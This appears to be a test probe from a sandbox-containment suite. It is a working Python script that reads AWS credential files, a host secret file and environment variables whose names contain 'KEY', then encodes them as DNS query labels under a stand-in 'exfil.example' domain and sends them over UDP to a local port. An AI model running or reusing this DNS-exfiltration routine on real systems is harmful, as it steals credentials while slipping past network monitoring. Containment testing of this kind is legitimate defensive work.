# family: injection
# tries: leak secrets as DNS lookups: one query packet per secret whose QNAME's first label is the secret, sent to the UDP port (argv 5) as to a resolver
# source: https://attack.mitre.org/techniques/T1071/004/
# exfil: yes
# stopped-when: canary-unread
# attempted-when: marker
#
# Secrets: the values of HOME/.aws/credentials, the host /tmp secret file
# and the environment's *KEY* variables. A label holds at most 63 bytes,
# so a longer secret is cut into 63-byte labels.
import os
import random
import socket
import struct
import sys

if len(sys.argv) < 9:
    sys.exit("usage: TOKEN HOME HOSTTMP TCP UDP UNIX DECOY USERFILES")
print(f"ATTEMPTED {sys.argv[1]}", file=sys.stderr, flush=True)
token, home, hosttmp, port = sys.argv[1], sys.argv[2], sys.argv[3], int(sys.argv[5])
secrets = [v for k, v in os.environ.items() if "KEY" in k]
for path in (os.path.join(home, ".aws", "credentials"), hosttmp):
    try:
        with open(path) as f:
            for line in f:
                value = line.split("=", 1)[-1].strip()
                if value and not value.startswith("["):
                    secrets.append(value)
    except OSError as e:
        print(f"{path}: {e.strerror}")


def query(name):
    labels = b"".join(bytes([len(p)]) + p for p in name if p)
    header = struct.pack(">HHHHHH", random.randrange(65536), 0x0100, 1, 0, 0, 0)
    return header + labels + b"\0" + struct.pack(">HH", 16, 1)  # TXT, IN


s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for secret in secrets:
    raw = secret.encode()
    name = [raw[i:i + 63] for i in range(0, len(raw), 63)]
    name += [token[:8].encode(), b"exfil", b"example"]
    try:
        s.sendto(query(name), ("127.0.0.1", port))
    except OSError as e:
        print(f"DNS: {e}")
print(f"sent {len(secrets)} lookups")
